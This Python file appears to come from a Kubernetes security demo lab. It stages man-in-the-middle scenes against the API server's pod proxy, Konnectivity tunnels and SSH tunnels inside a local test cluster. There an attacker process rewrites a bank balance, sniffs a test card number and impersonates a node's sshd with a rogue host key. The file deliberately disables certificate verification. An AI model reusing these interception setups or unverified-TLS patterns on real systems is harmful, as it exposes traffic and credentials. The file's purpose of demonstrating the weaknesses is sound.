"""The scenes about pods, services and nodes behind the API server's proxy, and about tunnels.

My job: play them. The attacker has the pod's own address here, or sits on the link between Konnectivity's two ends.
"""

import contextlib
import json
import socket
import ssl
import subprocess
import sys
from collections.abc import Callable, Iterator, Sequence
from typing import Final

import trustme

from certs.sshkeys import new_ssh_key
from miniplane.addresses import HIGH_SSH_PORT, SSH_PORT, Ranges
from miniplane.demo.attacker import Attacker
from miniplane.demo.kubeletscenes import CARD, SHOP, forward, logs
from miniplane.demo.lab import MOVED_TO, Lab, Said, lab, tapped_cluster, until
from miniplane.demo.scene import Act, Stage, Step
from miniplane.konnectivity import AGENT_PORT
from miniplane.launch import environment
from miniplane.program import python
from miniplane.ssh import user
from miniplane.state import Egress, Options

#: Where the pod is asked for, and where its program really listens: the attacker answers in between.
ASKED: Final = 8080
MOVED: Final = 18080
#: The attacker's own place in the node range, for what it runs itself.
MALLORY: Final = 201
BALANCE: Final = ("balance 17.20", "balance 99.99")
#: A web server in twelve lines; with a certificate if it was given one.
SITE: Final = """
import http.server, os, socket, ssl
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"card %s, balance 17.20\\n" % os.environ["CARD"].encode()
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *_): pass
server = http.server.ThreadingHTTPServer((socket.gethostbyname(socket.gethostname()), int(os.environ["PORT"])), Page)
if os.path.exists("/etc/site/tls.pem"):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); context.load_cert_chain("/etc/site/tls.pem")
    server.socket = context.wrap_socket(server.socket, server_side=True)
server.serve_forever()
"""
POD_MANIFEST: Final = """
{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "bank", "labels": {"app": "bank"}}, "spec": {"containers": [
 {"name": "bank", "image": "miniplane.local/echo", "command": %s, "ports": [{"containerPort": 8080}],
  "env": [{"name": "PORT", "value": "18080"}, {"name": "CARD", "value": "4111-0042"}],
  "volumeMounts": [{"name": "site", "mountPath": "/etc/site"}],
  "readinessProbe": {"tcpSocket": {"port": 18080}, "periodSeconds": 1}}],
 "volumes": [{"name": "site", "secret": {"secretName": "site", "optional": true}}]}}
"""


def proxy_http(stage: Stage) -> list[Act]:
    return _proxied(stage, "", "plain HTTP, as the API server's proxy does by default")


def proxy_https(stage: Stage) -> list[Act]:
    return _proxied(stage, "https:", "https: before the name: encrypted, and nobody looks at the certificate")


def _proxied(stage: Stage, scheme: str, setting: str) -> list[Act]:
    proxied = Act("proxied", setting)
    forwarded = Act("forwarded", "the same page by kubectl port-forward: through the verified kubelet")
    stage.waits("a cluster")
    with lab(True) as cluster:
        address = _start_site(cluster, is_tls=bool(scheme))
        with _at(cluster, address, is_plain=not scheme) as attacker:
            stage.begins(proxied)
            said = cluster.run("get", "--raw", f"/api/v1/namespaces/default/pods/{scheme}bank:{ASKED}/proxy/account")
            _tell(stage, proxied, Step(said, attacker.account()))
            stage.begins(forwarded)
            if scheme:
                said = _forwarded_tls(cluster)
            else:
                said = forward(cluster, "bank", MOVED, "/account")
            _tell(stage, forwarded, Step(said, attacker.account()))
    return [proxied, forwarded]


def _tell(stage: Stage, act: Act, step: Step) -> None:
    act.steps.append(step)
    stage.happened(step)


def _start_site(cluster: Lab, is_tls: bool) -> str:
    """The pod's address."""
    if is_tls:
        pem = cluster.cache.parent / "tls.pem"
        issued = trustme.CA(organization_name="the pod's own").issue_cert("bank")
        pem.write_bytes(issued.private_key_and_cert_chain_pem.bytes())
        cluster.run("create", "secret", "generic", "site", f"--from-file=tls.pem={pem}")
    manifest = cluster.cache.parent / "bank.json"
    manifest.write_text(POD_MANIFEST % json.dumps([sys.executable, "-I", "-S", "-c", SITE]))
    cluster.apply(manifest, "bank")
    return cluster.run("get", "pod", "bank", "-o", "jsonpath={.status.podIP}").output


@contextlib.contextmanager
def _at(cluster: Lab, address: str, is_plain: bool) -> Iterator[Attacker]:
    arguments = ("--listen", f"{address}:{ASKED}", "--upstream", f"{address}:{MOVED}", "--replace", *BALANCE)
    with Attacker((*arguments, *(("--plain",) if is_plain else ()))) as attacker:
        attacker.attack()
        attacker.account()
        yield attacker


def _forwarded_tls(cluster: Lab) -> Said:
    """port-forward carries bytes; TLS inside it is between the person and the pod."""
    command = f"kubectl port-forward bank :{MOVED} & curl -k https://localhost/account"
    with cluster.background("port-forward", "pod/bank", f":{MOVED}", "--address=127.0.0.1") as process:
        line = cluster.first_line(process.stdout)
        local = int(line.split("127.0.0.1:")[1].split()[0])
        context = ssl._create_unverified_context()
        with socket.create_connection(("127.0.0.1", local), 5) as raw, context.wrap_socket(raw) as stream:
            stream.sendall(b"GET /account HTTP/1.0\r\n\r\n")
            answer = b"".join(iter(lambda: stream.recv(4096), b""))
    return Said(command, answer.decode().partition("\r\n\r\n")[2].strip(), 0)


# Konnectivity


def konnectivity(stage: Stage) -> list[Act]:
    """The untrusted network lies between the agent and the server; kubelets and pods are reached behind it."""
    acts = [
        Act("listening", "all traffic in the tunnel; kubelets not verified, the attacker looks at every packet"),
        Act("in between", "the attacker answers as the Konnectivity server"),
    ]

    def listen(ranges: Ranges) -> Sequence[str]:
        place, moved = ranges.control_plane, _moved(ranges)
        return ("--listen", f"{place}:{AGENT_PORT}", "--upstream", f"{moved}:{AGENT_PORT}", "--look-for", CARD)

    def extra(ranges: Ranges) -> dict[str, tuple[str, ...]]:
        return {"konnectivity-server": (f"--agent-bind-address={_moved(ranges)}",)}

    stage.waits("a cluster with Konnectivity")
    options = Options(kubelet_ca=False, egress=Egress.KONNECTIVITY)
    with tapped_cluster(options, listen, extra) as cluster:
        _tunnelled(stage, acts, cluster, lambda: None)
    return acts


def ssh(stage: Stage) -> list[Act]:
    """The untrusted network lies before the node's sshd; kubelet and pods are reached behind it."""
    acts = [
        Act("listening", "all traffic in SSH; kubelets not verified, the attacker looks at every packet"),
        Act("in between", "the attacker takes the address, with a host key of its own"),
    ]
    stack = contextlib.ExitStack()

    def listen(ranges: Ranges) -> Sequence[str]:
        # Held while we play, so that the cluster settles for the port that the attacker has.
        with contextlib.suppress(OSError):
            stack.enter_context(socket.create_server((ranges.node_ip(1), SSH_PORT)))
        place, moved, mallory = (f"{ranges.node_ip(number)}:{HIGH_SSH_PORT}" for number in (1, MOVED_TO, MALLORY))
        return ("--listen", place, "--upstream", moved, "--look-for", CARD, "--divert", mallory)

    def extra(ranges: Ranges) -> dict[str, tuple[str, ...]]:
        return {"sshd-node-1": (f"--address={ranges.node_ip(MOVED_TO)}",)}

    stage.waits("a cluster with SSH tunnels")
    options = Options(kubelet_ca=False, egress=Egress.SSH_EMBEDDED)
    with stack, tapped_cluster(options, listen, extra) as cluster:
        _tunnelled(stage, acts, cluster, lambda: stack.enter_context(_own_sshd(cluster, HIGH_SSH_PORT)))
    return acts


@contextlib.contextmanager
def _own_sshd(cluster: Lab, port: int) -> Iterator[None]:
    """An sshd that takes anybody's word but has not the node's host key."""
    folder = cluster.state.path / "nodes" / "node-1" / "ssh"
    key = cluster.cache.parent / "mallory_host_key"
    key.write_bytes(new_ssh_key("mallory").private)
    key.chmod(0o600)
    arguments = (f"--address={cluster.ranges.node_ip(MALLORY)}", f"--port={port}", f"--user={user()}",
                 f"--host-key-file={key}", f"--authorized-keys-file={folder / 'authorized_keys'}",
                 "--allow-cidrs=127.0.0.0/8")  # fmt: skip
    argv = (*python("minikubelet.sshd"), *arguments)
    with subprocess.Popen(argv, stderr=subprocess.DEVNULL, env=environment()) as it:
        try:
            until(5.0, lambda: _listens(cluster.ranges.node_ip(MALLORY), port))
            yield
        finally:
            it.terminate()


def _listens(host: str, port: int) -> bool:
    try:
        socket.create_connection((host, port), 1).close()
    except OSError:
        return False
    return True


def _tunnelled(stage: Stage, acts: list[Act], cluster: Lab, before_the_attack: Callable[[], object]) -> None:
    cluster.start_pod("shop", "--image=host", "--command", "--", "sh", "-c", SHOP)
    cluster.start_pod("web", "--image=miniplane.local/echo", "--port=8080")
    cluster.attacker.account()
    for act in acts:
        if act is acts[1]:
            before_the_attack()
            cluster.attacker.account()
            cluster.attacker.attack()
            cluster.attacker.await_victim("refused", "diverted")
        stage.begins(act)
        for command in (logs, _page):
            _tell(stage, act, Step(command(cluster), cluster.attacker.account()))


def _moved(ranges: Ranges) -> str:
    return ranges.node_ip(253)


def _page(cluster: Lab) -> Said:
    return cluster.run("get", "--raw", f"/api/v1/namespaces/default/pods/web:8080/proxy/?card={CARD}")

